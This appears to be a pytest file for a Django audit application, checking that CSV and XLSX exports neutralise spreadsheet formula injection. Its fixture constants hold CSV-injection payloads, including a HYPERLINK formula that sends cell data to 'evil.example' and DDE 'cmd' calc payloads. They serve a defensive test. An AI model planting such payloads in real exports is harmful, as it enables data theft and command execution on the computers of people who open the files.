"""Spreadsheet formulas (issue 7 item 4): hostile text stored through the actions, in every
free-text place an export shows (a system's name, a purpose's label, a search's
justification and further action, a finding's summary), comes out of every CSV and XLSX
export with no cell that a spreadsheet would run: nothing starts with = + - @, a tab or a
carriage return. The exports: the searches of a unit, the findings (all, and per system),
the audit trail, and the published transparency report. (The access-log rejects report is
tested in accesslogs/tests/test_views.py.)"""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import timedelta
from typing import Any

import pytest
from django.db import transaction
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

from searchledger.apps.findings import actions as findings
from searchledger.apps.reports.actions import do_publish_transparency_report
from searchledger.apps.searches import actions as searches
from searchledger.apps.searches.tests.support import actor_for, request
from searchledger.apps.systems.actions import SystemDetails, do_update_system
from searchledger.core.actor import Actor
from searchledger.core.published import parse_report_csv

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

SYSTEM_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"MIRS")'
PURPOSE_LABEL = "+cmd|' /C calc'!A0"
JUSTIFICATION = "@SUM(1+1)*cmd|' /C calc'!A0"
FURTHER_ACTION = "-2+3+cmd|' /C calc'!A0"
SUMMARY = "\t=1+1 a tab first"
CARRIAGE = "\r=2+2 a carriage return first"


@pytest.fixture
def hostile(rworld, admin_actor):  # the reports tests' world
    """Hostile text in every place an export shows free text, stored through actions."""
    system = rworld["system"]
    do_update_system(
        system.pk,
        SystemDetails(
            name=SYSTEM_NAME,
            owner="-State MVA",
            kind=system.kind,
            access_method=system.access_method,
            required_course_codes=["privacy"],
        ),
        actor=admin_actor,
    )
    searches.do_create_offence_category(
        code="evil", label=PURPOSE_LABEL, group="agency", actor=admin_actor
    )
    officer = actor_for(rworld["searcher"])
    search = searches.do_request_search(
        request(purpose="evil", justification=JUSTIFICATION), actor=officer
    )
    searches.do_document_outcome(
        search.pk,
        searches.SearchOutcome(
            searched_at=timezone.now(),
            candidates_returned=0,
            lead_derived=False,
            further_action=FURTHER_ACTION,
        ),
        actor=officer,
    )
    draft = findings.FindingDraft(
        source="reconciliation",
        kind="undocumented_search",
        severity="high",
        summary=SUMMARY,
        source_ref="import:1:line:5",
        subject_id=rworld["searcher"].pk,
        system_id=system.pk,
        detail={"external_account": "=jdoe7", "line": 5},
    )
    with transaction.atomic():
        findings.raise_finding(draft, actor=Actor.system())
        findings.raise_finding(
            replace(draft, summary=CARRIAGE, source_ref="import:1:line:6"), actor=Actor.system()
        )
    return rworld


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _xlsx_cells(data: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(data), read_only=True)
    return [cell for sheet in book for row in sheet.iter_rows(values_only=True) for cell in row]


def _body(response: Any) -> bytes:
    assert response.status_code == 200, response.content[:300]
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return bytes(response.content)


def _assert_no_formula(cells: list[Any], *expected: str) -> None:
    runnable = [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_STARTS)]
    assert runnable == []
    texts = [c for c in cells if isinstance(c, str)]
    for value in expected:  # the hostile value did reach this export, neutralised
        assert any(c == "'" + value or c.startswith("'" + value) for c in texts), value


EXPORTS = {
    "searches": ("/searches/unit/export.csv", (JUSTIFICATION, FURTHER_ACTION)),
    # A summary is stored without its leading white space, so the = comes first.
    "findings": ("/findings/export.csv", (SUMMARY.strip(), CARRIAGE.strip())),
    "findings of one system": (
        "/findings/export.csv?system=mirs",
        (SUMMARY.strip(), CARRIAGE.strip()),
    ),
    "audit trail": ("/reports/audit-trail/export/", ()),
}


@pytest.mark.parametrize("export", EXPORTS)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_no_export_holds_a_cell_a_spreadsheet_would_run(hostile, admin, export, fmt):
    client = Client()
    client.force_login(admin)
    path, expected = EXPORTS[export]
    joiner = "&" if "?" in path else "?"
    data = _body(client.get(f"{path}{joiner}format={fmt}", secure=True))
    cells = _csv_cells(data.decode("utf-8-sig")) if fmt == "csv" else _xlsx_cells(data)
    assert len(cells) > 10
    _assert_no_formula(cells, *expected)


def test_the_published_transparency_csv_holds_no_cell_a_spreadsheet_would_run(hostile, admin_actor):
    today = timezone.localdate()
    published = do_publish_transparency_report(
        today - timedelta(days=6),
        today,
        1,
        agency_title="=Example Agency",
        actor=admin_actor,
    )
    data = _body(Client().get(f"/transparency/{published.pk}.csv", secure=True))
    _assert_no_formula(_csv_cells(data.decode("utf-8")), PURPOSE_LABEL)
    # The page and the command line read the cells back as they were (one quote taken off).
    assert (PURPOSE_LABEL in {row[1] for row in parse_report_csv(data.decode()).rows}) is True
